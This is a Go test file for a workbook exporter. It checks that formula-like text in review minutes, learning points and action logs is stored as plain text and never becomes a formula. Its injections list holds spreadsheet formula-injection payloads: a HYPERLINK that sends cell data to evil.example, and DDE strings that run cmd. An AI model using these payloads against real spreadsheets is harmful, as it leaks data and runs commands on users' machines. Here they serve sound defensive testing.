package workbook

import (
	"bytes"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/lsip/scrutiny/domain"
)

// injections are what a member, a chair or a manager might type that a
// spreadsheet would run as a formula if it were written as one.
var injections = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1+1)*cmd|' /C calc'!A0",
}

// TestTypedTextIsNeverAFormula: review comments, a finding's rationale,
// learning points and action text that look like formulas are stored in
// every exported workbook as text, and no cell holding them has a formula.
func TestTypedTextIsNeverAFormula(t *testing.T) {
	m := minutes("DRAFT")
	m.Cases[0].Rationale = injections[0]
	m.Cases[0].GoodPractice = []string{injections[1]}
	m.Cases[0].Concerns = []string{injections[2]}
	m.LearningPoints = append(m.LearningPoints, LearningPoint{Text: injections[3], Tag: "police"})
	m.Actions[0].Description = injections[0]
	minutesBook, err := BuildMinutes(m)
	if err != nil {
		t.Fatal(err)
	}
	keyMessages, err := BuildKeyMessages(KeyMessages{PanelName: "Wales LSIP", AreaName: "Wales", Meeting: meeting, CasesReviewed: 6,
		LearningPoints: []LearningPoint{{Text: injections[3], Tag: "police"}, {Text: injections[0], Tag: "prosecution"}}})
	if err != nil {
		t.Fatal(err)
	}
	var export bytes.Buffer
	log, err := NewActionLog(&export)
	if err != nil {
		t.Fatal(err)
	}
	for i, text := range injections {
		if err := log.Add(domain.ActionRow{ID: int64(i + 1), Panel: "Wales LSIP", Area: "Wales", Description: text, OwnerName: injections[(i+1)%len(injections)],
			ManagerName: "DCCP", Due: time.Date(2027, 4, 30, 0, 0, 0, 0, time.UTC), Status: domain.ActionOpen}); err != nil {
			t.Fatal(err)
		}
	}
	if err := log.Close(); err != nil {
		t.Fatal(err)
	}
	for name, book := range map[string][]byte{"minutes": minutesBook, "key messages": keyMessages, "action export": export.Bytes()} {
		found := formulaFreeCells(t, name, book)
		for _, text := range injections {
			if name == "key messages" && text != injections[0] && text != injections[3] {
				continue
			}
			if !found[text] {
				t.Errorf("%s: %q is not stored as text anywhere", name, text)
			}
		}
	}
}

// formulaFreeCells opens a workbook and returns the text of every cell
// whose value is one of the injections, failing the test if any such cell
// carries a formula.
func formulaFreeCells(t *testing.T, name string, book []byte) map[string]bool {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(book))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	defer f.Close()
	found := map[string]bool{}
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, value := range row {
				for _, text := range injections {
					if value != text && !bytes.Contains([]byte(value), []byte(text)) {
						continue
					}
					cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
					if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
						t.Errorf("%s: %s!%s holds the formula %q", name, sheet, cell, formula)
					}
					if typ, _ := f.GetCellType(sheet, cell); typ == excelize.CellTypeFormula {
						t.Errorf("%s: %s!%s is a formula cell", name, sheet, cell)
					}
					found[text] = true
				}
			}
		}
	}
	return found
}
